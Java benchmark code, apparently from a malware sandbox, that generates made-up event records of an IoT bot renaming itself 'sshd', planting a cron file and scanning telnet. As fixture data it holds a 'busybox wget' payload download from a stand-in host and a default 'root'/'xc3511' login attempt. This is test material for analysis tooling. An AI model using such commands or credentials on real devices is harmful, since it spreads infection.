package org.malassay.experiments.benchmark;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.OptionalLong;
import java.util.Random;
import org.malassay.behavior.Conversation;
import org.malassay.behavior.Endpoint;
import org.malassay.behavior.Event;
import org.malassay.behavior.FileKept;
import org.malassay.behavior.Origin;
import org.malassay.behavior.ProcessBegun;
import org.malassay.behavior.ProcessEnded;
import org.malassay.behavior.ProgramStarted;
import org.malassay.behavior.Question;
import org.malassay.behavior.ServiceAsked;
import org.malassay.behavior.Usage;

/**
 * Events as they are recorded of a bot, in the order in which it makes them: it looks for others,
 * hides, stays, asks for its server, and scans for telnet until it is stopped after ten seconds.
 * Made up: nothing ran.
 */
final class RecordedBot {
  private static final Endpoint GUEST = new Endpoint("10.0.2.15", 40_000);
  private static final Duration LIMIT = Duration.ofSeconds(10);
  private static final int PROBES = 20;
  private static final int LOOKS = 10;
  private static final int SAMPLE = 100;

  private final Random chance;
  private final int calls;
  private final List<Event> events = new ArrayList<>();
  private int made;

  private RecordedBot(Random chance, int calls) {
    this.chance = chance;
    this.calls = calls;
  }

  /**
   * What a program that does not get far is seen doing: it is started, fails and ends.
   *
   * @param signal that ends it
   */
  static List<Event> failing(Random chance, int signal) {
    RecordedBot bot = new RecordedBot(chance, LOOKS);
    bot.begin(SAMPLE, 1, "/tmp/sample");
    bot.open("/etc/ld.so.cache", "O_RDONLY|O_CLOEXEC");
    bot.open("/lib/libc.so.6", "O_RDONLY|O_CLOEXEC");
    bot.events.add(
        new ProcessEnded(
            bot.now(), Origin.HOST_KERNEL, SAMPLE, OptionalInt.empty(), OptionalInt.of(signal)));
    bot.asked(1);
    return bot.events;
  }

  /**
   * What one that works is seen doing.
   *
   * @param family what it does besides scanning depends on
   * @param calls how many system calls it makes, about
   */
  static List<Event> working(Random chance, int family, int calls) {
    RecordedBot bot = new RecordedBot(chance, calls);
    bot.begin(SAMPLE, 1, "/tmp/sample");
    bot.call("prctl", List.of("PR_SET_NAME", "\"sshd\""), Optional.empty(), Optional.empty());
    bot.begin(SAMPLE + 1, SAMPLE, "/tmp/.x" + family);
    if (family % 2 == 0) {
      bot.open("/etc/cron.d/update-" + family, "O_WRONLY|O_CREAT");
    }
    if (family % 3 == 0) {
      bot.begin(SAMPLE + 2, SAMPLE, "/bin/busybox", "wget", "http://198.51.100.7/arm7");
      bot.events.add(
          new FileKept(
              bot.now(),
              Origin.AGENT,
              "/tmp/.x" + family,
              90_000,
              90_000,
              Integer.toHexString(family).repeat(64).substring(0, 64),
              "ELF 32-bit LSB executable",
              "files/x"));
    }
    bot.events.add(
        new Question(
            bot.now(),
            Origin.NETWORK,
            OptionalInt.of(SAMPLE),
            "dns",
            GUEST,
            new Endpoint("10.0.2.3", 53),
            "A cnc-%d.example.org".formatted(family),
            "A 198.51.100.7"));
    while (bot.made < calls) {
      bot.looksForOthers();
      bot.scans();
    }
    bot.asked(PROBES);
    for (int i = 0; i < LOOKS; i++) {
      bot.events.add(
          new Usage(
              LIMIT.dividedBy(LOOKS).multipliedBy(i),
              Origin.HOST,
              Duration.ofMillis(90L * i),
              OptionalLong.of(12L << 20),
              OptionalLong.of(14L << 20),
              OptionalInt.of(4),
              OptionalLong.of(30L * i),
              OptionalLong.of(20L * i)));
    }
    return bot.events;
  }

  private Duration now() {
    return LIMIT.multipliedBy(Math.min(made, calls)).dividedBy(calls + 1L);
  }

  private void begin(int process, int parent, String... words) {
    events.add(new ProcessBegun(now(), Origin.HOST_KERNEL, process, parent));
    events.add(
        new ProgramStarted(now(), Origin.HOST_KERNEL, process, words[0], List.of(words), false));
  }

  private void looksForOthers() {
    String process = "/proc/%d".formatted(chance.nextInt(5_000));
    open(process + "/exe", "O_RDONLY");
    open(process + "/cmdline", "O_RDONLY|O_CLOEXEC");
  }

  private void open(String path, String flags) {
    call(
        "openat",
        List.of("AT_FDCWD", '"' + path + '"', flags),
        Optional.of(path),
        Optional.empty());
  }

  private void scans() {
    Endpoint peer =
        new Endpoint("203.0.%d.%d".formatted(chance.nextInt(256), chance.nextInt(256)), 23);
    call("socket", List.of("AF_INET", "SOCK_STREAM", "0"), Optional.empty(), Optional.empty());
    call(
        "connect",
        List.of("3", "%s:%d".formatted(peer.address(), peer.port()), "16"),
        Optional.empty(),
        Optional.of(peer));
    call("close", List.of("3"), Optional.empty(), Optional.empty());
    if (chance.nextInt(LOOKS) == 0) {
      events.add(
          new Conversation(
              now(),
              Origin.NETWORK,
              Duration.ofMillis(20),
              OptionalInt.of(SAMPLE + 1),
              "tcp",
              GUEST,
              peer,
              Optional.of("telnet"),
              42,
              60,
              "root\r\nxc3511\r\n",
              "login: ",
              Optional.empty()));
    }
  }

  private void call(
      String name, List<String> arguments, Optional<String> path, Optional<Endpoint> endpoint) {
    made++;
    boolean fails = chance.nextInt(4) == 0;
    events.add(EventsBenchmark.call(now(), SAMPLE, name, arguments, path, endpoint, fails));
  }

  private void asked(int times) {
    for (int i = 0; i < times; i++) {
      events.add(
          new ServiceAsked(
              LIMIT.multipliedBy(i).dividedBy(times),
              Origin.PROBE,
              Duration.ofNanos(1_500_000 + chance.nextInt(1_000_000)),
              OptionalInt.of(200),
              Optional.of(true),
              Optional.empty()));
    }
  }
}
